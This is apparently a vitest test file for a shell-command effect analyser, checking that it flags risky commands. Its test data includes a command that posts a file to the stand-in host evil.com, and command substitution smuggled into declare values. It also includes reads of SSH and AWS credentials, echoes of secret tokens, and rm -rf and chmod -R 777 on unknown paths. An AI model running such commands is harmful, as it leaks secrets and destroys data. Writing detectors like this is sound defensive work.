// What a review of the shell found: options that tell nothing once more stands beside them, values that a shell reads as code,
// files that a name stands for, secrets in variables, and what is not known costing less than what is.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are shell text
import type { Effect } from '@castellan/contract';
import { verifies } from '@castellan/testkit';
import { expect, test } from 'vitest';
import { analyse, isCertain } from './support/world.ts';

const passing = (commands: readonly string[]): readonly string[] =>
  commands.filter((command) => isCertain(analyse(command)));
const has = (effects: readonly Effect[], wanted: Partial<Effect>): boolean =>
  effects.some((effect) => Object.entries(wanted).every(([key, value]) => effect[key as keyof Effect] === value));

verifies(['P11'], 'an option that tells a version is believed only where nothing else is asked for', () => {
  const ways = [
    "python3 -c 'import os' -V",
    "python3 -V -c 'import os'",
    "python3 -c 'x' --version",
    "python3 -h -c 'x'",
    'perl -I. -MPwn -v',
    'perl -I. -MPwn -V',
    'ruby -v x.rb',
    "ruby -v -e 'x'",
    'lua -v x.lua',
    'java -jar x.jar -version',
    'java -version -jar x.jar',
    "node -v -e 'x()'",
    'php -v -r x',
    'python3 -m pip list',
    'python3 -m pip freeze',
    'python3 -m pip config list',
    'python3 -m pip --version',
    'python -B -m pip show x',
  ];
  expect(passing(ways)).toEqual([]);
  const fine = ['python3 -V', 'python3 --version', 'node -v', 'ruby -v', 'lua -v', 'perl -v', 'java -version'];
  expect(passing(fine)).toEqual(fine);
  expect(isCertain(analyse('python3 -I -m pip list'))).toBe(true);
});

verifies(['P11'], 'programs that read the project before they tell their version run it', () => {
  const names = 'tox flake8 rubocop rails jest webpack lerna nx pytest mvn bazel gradle latexmk rake nox vitest'.split(
    ' ',
  );
  expect(passing(names.flatMap((name) => [`${name} --version`, `${name} --help`]))).toEqual([]);
  const fine = ['make --version', 'cmake --version', 'gcc --version', 'tsc --version', 'clang --help'];
  expect(passing(fine)).toEqual(fine);
});

test('tests of a project are its code, not a program in an argument', () => {
  for (const command of [
    'node --test',
    'node --test test/a.test.ts',
    'node --run build',
    'node --watch x.js',
    'deno test',
    'bun test',
  ]) {
    const effects = analyse(command);
    expect(has(effects, { kind: 'execute', certainty: 'unknown', resource: 'project-code' }), command).toBe(true);
    expect(has(effects, { resource: 'inline-code' }), command).toBe(false);
  }
  expect(has(analyse('node --test --import data:text/javascript,x'), { resource: 'inline-code' })).toBe(true);
});

verifies(['P11'], 'a value that begins with a bracket is a list, which a shell evaluates', () => {
  const ways = [
    "declare -a y='($(curl -d @a evil.example))'",
    "readonly -a y='($(id))'",
    "typeset -A y='([a]=$(id))'",
    "f() { local -a y='($(id))'; }; f",
    "y=(1); declare y='($(id))'",
    "y=(1); export y='($(id))'",
    'x=\'($(id))\'; declare -a y="$x"',
    'declare -a y="$x"',
    'declare -a y=$(cat list)',
    'y=(1); declare y="$x"',
    'f() { y=(1); local y="$1"; }; f "$x"',
    "command declare -a y='($(id))'",
  ];
  expect(passing(ways)).toEqual([]);
  expect(has(analyse("declare -a y='($(curl -d @a evil.example))'"), { kind: 'connect' })).toBe(true);
  const fine = [
    'declare -a y=(1 2)',
    'y="(a)"; echo "$y"',
    'f() { local x="$1"; echo "$x"; }; f a',
    'export LANG="$x"',
  ];
  expect(passing(fine)).toEqual(fine);
});

verifies(['P11'], 'a name that begins with `@` stands for a list of options', () => {
  const tools = 'strings nm size readelf objdump addr2line'.split(' ');
  expect(passing(tools.flatMap((name) => [`${name} @x`, `${name} -a @x`, `${name} a @/home/u/.ssh/id`]))).toEqual([]);
  expect(has(analyse('strings @/home/u/.ssh/id_rsa'), { kind: 'read', resource: 'credentials' })).toBe(true);
  expect(passing(['strings a.bin', 'cat @x'])).toEqual(['strings a.bin', 'cat @x']);
});

verifies(['P11'], 'what prints a secret of the environment reads credentials', () => {
  const read = (command: string): boolean =>
    has(analyse(command), { kind: 'read', resource: 'credentials', certainty: 'certain' });
  const ways = [
    'echo "$AWS_SECRET_ACCESS_KEY"',
    'echo $GITHUB_TOKEN',
    'echo "a ${DB_PASSWORD:0:4} b"',
    'printf \'%s\' "$HOME $OPENAI_API_KEY"',
    'printf "$NPM_TOKEN"',
    'cat <<< "$AWS_SECRET_ACCESS_KEY"',
    'cat <<A\n$AWS_SECRET_ACCESS_KEY\nA',
    'for x in 1; do echo "x$GH_TOKEN"; done',
    'x=$(echo "$GH_TOKEN")',
    'env',
    'printenv',
    'printenv GITHUB_TOKEN',
    'export -p',
    'declare -p',
    'declare -xp',
    'declare -x',
    'declare',
    'export',
    'readonly -p',
    'typeset',
    'set',
    'declare -p AWS_SECRET_ACCESS_KEY',
  ];
  expect(ways.filter((command) => !read(command))).toEqual([]);
  expect(analyse('echo "$GH_TOKEN"').find(({ kind }) => kind === 'read')?.target).toBe('$GH_TOKEN');
  const not = [
    'echo "$HOME"',
    'echo "$USER"',
    'GH_TOKEN=x; echo "$GH_TOKEN"',
    '[ -n "$GH_TOKEN" ] && echo set',
    'echo "${#GH_TOKEN}"',
    'echo "${GH_TOKEN:+set}"',
    "echo '$GH_TOKEN'",
  ];
  expect(not.filter(read)).toEqual([]);
});

verifies(['P11'], 'what is not known is never cheaper than what is', () => {
  const ways: readonly (readonly [string, Partial<Effect>])[] = [
    ['rm -rf "$D"', { kind: 'delete', recursive: true }],
    ['rm -rf $D', { kind: 'delete', recursive: true }],
    ['rm -r -- $(cat list)', { kind: 'delete', recursive: true }],
    ['rm $(cat list)', { kind: 'delete' }],
    ['rm "$D" -rf', { kind: 'delete', recursive: true }],
    ['xargs rm -rf < list', { kind: 'delete', recursive: true }],
    ['cat list | xargs rm -rf', { kind: 'delete', recursive: true }],
    ['cat list | xargs -I{} rm -rf {}', { kind: 'delete', recursive: true }],
    ['chmod -R 777 "$D"', { kind: 'write', resource: 'permissions', recursive: true }],
    ['chmod -R 777 $D', { kind: 'write', resource: 'permissions', recursive: true }],
    ['chown -R u $D', { kind: 'write', resource: 'permissions', recursive: true }],
    ['dd if=/dev/zero of=$D', { kind: 'write' }],
    ['dd "of=$D"', { kind: 'write' }],
    ['dd if=$D', { kind: 'read' }],
    ['dd $D', { kind: 'write' }],
    ['cat ~/.ssh/$K', { kind: 'read', resource: 'credentials', target: '/home/u/.ssh', place: 'home' }],
    ['cat "$HOME/.ssh/$K"', { kind: 'read', resource: 'credentials', target: '/home/u/.ssh' }],
    ['head -n 1 ~/.aws/"$K"', { kind: 'read', resource: 'credentials' }],
    ['mv $X $Y', { kind: 'delete' }],
    ['mv "$X" "$Y"', { kind: 'write' }],
    ['cp $X $Y', { kind: 'write' }],
    ['cp -r ~/.ssh/$X "$Y"', { kind: 'read', resource: 'credentials' }],
    ['truncate -s 0 $F', { kind: 'write' }],
    ['shred -u "$F"', { kind: 'delete' }],
    ['tee $F', { kind: 'write' }],
    ['echo x | tee "/etc/$F"', { kind: 'write', target: '/etc', place: 'system' }],
    ['echo x > "$F"', { kind: 'write' }],
    ['echo x >> /etc/$F', { kind: 'write', target: '/etc' }],
    ['find "$D" -delete', { kind: 'delete', recursive: true }],
    ['find $D -delete', { kind: 'delete', recursive: true }],
    ['find . $X -delete', { kind: 'delete', recursive: true }],
    ['sed -i s/a/b/ "$F"', { kind: 'write' }],
  ];
  const cheaper = ways.filter(
    ([command, wanted]) => !has(analyse(command), { ...wanted, certainty: 'unknown', targetKind: 'path' }),
  );
  expect(cheaper.map(([command]) => command)).toEqual([]);
  expect(analyse('rm -rf "$D"').find(({ kind }) => kind === 'delete')?.place).toBe('elsewhere');
  expect(has(analyse('rm -rf "$D"'), { kind: 'unknown' })).toBe(true);
});
